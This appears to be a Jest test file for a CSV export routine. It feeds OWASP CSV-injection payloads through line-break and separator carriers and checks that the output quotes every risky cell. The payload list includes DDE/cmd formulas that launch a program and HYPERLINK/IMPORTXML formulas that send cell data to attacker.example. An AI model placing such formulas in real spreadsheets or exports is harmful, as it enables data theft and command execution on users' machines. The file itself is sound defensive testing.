import { parseString } from '@fast-csv/parse';
import { rowFromMaps, type ExportRow } from '../../api/exports/columns';
import { exportStream } from '../../api/exports/formats';

// Issue 38 item 6. Payload corpus: the formula and DDE payloads that OWASP's "CSV Injection" page
// describes (cmd/DDE calls, HYPERLINK and IMPORTXML exfiltration, @/+/- starts), written out here,
// each carried five ways: as is, after a leading LF, and after text and an LF, a CR or a `;`,
// which csv-stringify used to write unquoted. 8 payloads x 5 carriers = 40 cells.
const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://attacker.example/?leak="&A1&A2,"Error: click to see")',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  '=IMPORTXML(CONCAT("http://attacker.example/?v=",A2),"//a")',
  '=1+2";=1+2',
];
const CARRIERS: [string, (p: string) => string][] = [
  ['as is', (p) => p],
  ['leading LF', (p) => `\n${p}`],
  ['text, LF', (p) => `x\n${p}`],
  ['text, CR', (p) => `x\r${p}`],
  ['text, ;', (p) => `x;${p}`],
];
const CELLS = PAYLOADS.flatMap((p) => CARRIERS.map(([how, carry]) => ({ how, cell: carry(p) })));

const FORMULA = /^[=+\-@]/;

async function csvOf(names: string[]): Promise<string> {
  async function* rows(): AsyncGenerator<ExportRow> {
    for (const name of names)
      yield rowFromMaps({ business_name: name, place_id: 'p1' }, { jobId: 'job_1', campaignId: null, location: null });
  }
  const chunks: Buffer[] = [];
  for await (const chunk of exportStream('csv', rows(), {
    bom: false,
    onError: (e) => {
      throw e;
    },
  }))
    chunks.push(Buffer.from(chunk as Buffer));
  return Buffer.concat(chunks).toString('utf8');
}

/** Rows as a quote-aware reader with the given separator reads them (CRLF, LF and CR all end a row). */
function read(text: string, delimiter: string): Promise<string[][]> {
  return new Promise((resolve, reject) => {
    const rows: string[][] = [];
    parseString<string[], string[]>(text, { delimiter, ignoreEmpty: true })
      .on('data', (r: string[]) => rows.push(r))
      .on('error', reject)
      .on('end', () => resolve(rows));
  });
}

describe('csv export against OWASP CSV-injection payloads', () => {
  test(`${CELLS.length} payload cells: a reader that ends rows at LF or CR sees one row per business and no cell starting a formula`, async () => {
    const text = await csvOf(CELLS.map((c) => c.cell));
    const rows = await read(text, ',');
    // Header plus one row per business: no cell's LF or CR ended a row.
    expect(rows).toHaveLength(CELLS.length + 1);
    const width = rows[0]?.length;
    const offenders: string[] = [];
    rows.slice(1).forEach((r, i) => {
      if (r.length !== width) offenders.push(`${CELLS[i]?.how}: ${r.length} cells`);
      for (const cell of r)
        if (FORMULA.test(cell) || /^[\r\n]/.test(cell)) offenders.push(`${CELLS[i]?.how}: ${JSON.stringify(cell)}`);
    });
    expect(offenders).toEqual([]);
  });

  test('every field holding CR, LF, TAB or ; is quoted, and a leading LF gets the quote prefix', async () => {
    const text = await csvOf(['a;b', 'a\tb', 'a\nb', 'a\rb', '\nx', 'plain']);
    const lines = text.split('\r\n');
    expect(lines[1]).toMatch(/^job_1,,,"a;b",/);
    expect(lines[2]).toMatch(/^job_1,,,"a\tb",/);
    expect(text).toContain('"a\nb"');
    expect(text).toContain('"a\rb"');
    expect(text).toContain(`"'\nx"`);
    expect(text).toMatch(/\r\njob_1,,,plain,/);
  });

  test('a reader that guesses ; or TAB as the separator finds none outside a quoted cell, so none starts a formula cell', async () => {
    const text = await csvOf(PAYLOADS.flatMap((p) => [`x;${p}`, `x\t${p}`]));
    // RFC 4180 quoting: a `"` toggles the quoted state (a doubled one toggles twice).
    let quoted = false;
    const bare: string[] = [];
    for (let i = 0; i < text.length; i++) {
      const c = text[i];
      if (c === '"') quoted = !quoted;
      else if (!quoted && (c === ';' || c === '\t')) bare.push(text.slice(i, i + 20));
    }
    expect(bare).toEqual([]);
  });
});
